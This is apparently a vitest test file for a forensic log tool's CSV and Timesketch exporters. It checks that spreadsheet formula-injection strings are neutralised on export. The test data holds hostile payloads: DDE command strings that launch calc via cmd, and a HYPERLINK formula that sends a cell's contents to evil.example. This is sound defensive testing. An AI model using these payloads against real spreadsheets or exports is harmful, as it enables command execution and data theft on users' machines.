import { describe, it, expect, beforeAll } from 'vitest';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { createCase, type Db } from '../../../src/core/casefile/caseFile';
import { csvCell, neutraliseFormula } from '../../../src/core/export/csvCell';
import { exportEventsCsv, exportFindingsCsv } from '../../../src/core/export/csvExport';
import { exportTimesketchCsv, exportTimesketchJsonl } from '../../../src/core/export/timesketch';
import type { Finding } from '../../../src/core/analysis/types';

const INJECTIONS = [
  "=cmd|' /C calc'!A0",
  '+1+cmd|/C calc',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  ' =HYPERLINK("http://evil.example/?x="&A1,"click")',
  '\u00A0=1+1',
  '＝1+1',
];

let dir: string;
let db: Db;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'alibi-export-'));
  db = createCase(join(dir, 'c.alibi'), { tz: 'Europe/Paris' });
  db.prepare(
    "INSERT INTO sources(id,file_name,size,sha256,format,parser_version,imported_at) VALUES (1,'=evil.csv',1,'h','csv','1','2025-09-07')",
  ).run();
  const ins = db.prepare(
    "INSERT INTO events(ts,ts_text,source_id,row_no,raw,kind,ip,client_ip,method,path,status,user_agent,email,amount,currency) VALUES (?,?,1,?,?,?,?,?,?,?,?,?,?,?,?)",
  );
  const base = Date.parse('2025-09-07T05:00:00Z');
  INJECTIONS.forEach((ua, i) =>
    ins.run(base + i * 60_000, `t${i}`, i + 1, `raw "${ua}"; with, separators\nand a newline`, 'http_request', '203.0.113.7', '203.0.113.7', 'GET', '/cart', 200, ua, null, null, null),
  );
  ins.run(base + 3_600_000, 'later', 99, 'order raw', 'order', '90.12.1.1', '90.12.1.1', null, null, null, null, 'julien@example.fr', 149.5, 'EUR');
});

function parse(path: string, delimiter = ','): { bom: boolean; rows: Record<string, string>[] } {
  const text = readFileSync(path, 'utf8');
  const bom = text.charCodeAt(0) === 0xfeff;
  const r = Papa.parse<Record<string, string>>(bom ? text.slice(1) : text, { header: true, delimiter, skipEmptyLines: true });
  expect(r.errors).toEqual([]);
  return { bom, rows: r.data };
}

describe('formula injection', () => {
  it('prefixes every formula-looking text with a quote and leaves plain text and numbers alone', () => {
    for (const s of INJECTIONS) expect(neutraliseFormula(s)).toBe(`'${s}`);
    expect(neutraliseFormula('Mozilla/5.0 (X11; Linux) =not-first')).toBe('Mozilla/5.0 (X11; Linux) =not-first');
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(-12.5, { separator: ';' })).toBe('-12,5');
    expect(csvCell('a;b', { separator: ';' })).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
  });

  it('events CSV: BOM, every hostile user agent inert after a real CSV parse, raw lines with newlines intact', async () => {
    const out = join(dir, 'events.csv');
    const r = await exportEventsCsv(db, out, { kind: 'http_request' });
    expect(r.rows).toBe(INJECTIONS.length);
    const { bom, rows } = parse(out);
    expect(bom).toBe(true);
    expect(rows.map((x) => x.user_agent)).toEqual(INJECTIONS.map((s) => `'${s}`));
    expect(rows[0].source_file).toBe("'=evil.csv");
    expect(rows[0].raw).toBe(`raw "${INJECTIONS[0]}"; with, separators\nand a newline`);
    expect(rows[0].time_utc).toBe('2025-09-07T05:00:00.000Z');
    // No cell of the file starts with a live formula character.
    for (const row of rows) for (const v of Object.values(row)) expect(v).not.toMatch(/^\s*[=+@\t\r]/);
  });

  it('French Excel: `;` separator and decimal comma, filters by ip, time window and limit', async () => {
    const out = join(dir, 'events-fr.csv');
    await exportEventsCsv(db, out, { ip: '90.12.1.1' }, { separator: ';' });
    const { rows } = parse(out, ';');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ email: 'julien@example.fr', amount: '149,5', kind: 'order' });
    const out2 = join(dir, 'window.csv');
    const w = await exportEventsCsv(db, out2, { from: '2025-09-07T07:01:00+02:00', to: '2025-09-07T05:03:00Z', limit: 2 });
    expect(w.rows).toBe(2);
    expect(parse(out2).rows.map((x) => x.row_no)).toEqual(['2', '3']);
    await expect(exportEventsCsv(db, out2, { kind: 'nope' })).rejects.toThrow(/unknown event kind/);
  });

  it('findings CSV neutralises a hostile subject', async () => {
    const f: Finding = {
      id: 'MC-1:x', rule: 'MC-1', title: 'distinct cards per e-mail in 24 h', severity: 'medium',
      subject: { kind: 'email', value: '=HYPERLINK("http://x")@example.fr' }, window: { from: 'a', to: 'b' },
      metric: { value: 3, threshold: 3, windowHours: 24 }, evidenceEventIds: [1, 2], summary: '-3 cards', weakCardKey: false,
      assessment: { label: 'likely-legitimate-shared-cards', householdSignals: ['same device'], cardTestingSignals: [], text: 'household' },
    };
    const out = join(dir, 'findings.csv');
    await exportFindingsCsv([f], out);
    const { rows } = parse(out);
    expect(rows[0]).toMatchObject({ subject: '\'=HYPERLINK("http://x")@example.fr', summary: "'-3 cards", evidence_event_ids: '1 2', value: '3' });
  });
});

describe('Timesketch', () => {
  it('JSONL has message, ISO datetime, µs timestamp, timestamp_desc and the fields', async () => {
    const out = join(dir, 'ts.jsonl');
    const r = await exportTimesketchJsonl(db, out);
    const lines = readFileSync(out, 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    expect(lines).toHaveLength(r.rows);
    expect(lines[0]).toMatchObject({
      datetime: '2025-09-07T05:00:00.000Z',
      timestamp: Date.parse('2025-09-07T05:00:00Z') * 1000,
      timestamp_desc: 'Request Time',
      ip: '203.0.113.7',
      user_agent: INJECTIONS[0],
    });
    expect(lines[0].message).toContain('203.0.113.7 GET /cart 200');
    expect(lines.at(-1)).toMatchObject({ timestamp_desc: 'Order Time', email: 'julien@example.fr', amount: 149.5 });
    expect(lines.at(-1).message).toBe('order julien@example.fr 149.5 EUR from 90.12.1.1');
  });

  it('CSV has the Timesketch header first (no BOM) and inert cells', async () => {
    const out = join(dir, 'ts.csv');
    await exportTimesketchCsv(db, out);
    const { bom, rows } = parse(out);
    expect(bom).toBe(false);
    expect(Object.keys(rows[0]).slice(0, 4)).toEqual(['message', 'datetime', 'timestamp', 'timestamp_desc']);
    expect(rows[0].user_agent).toBe(`'${INJECTIONS[0]}`);
  });
});
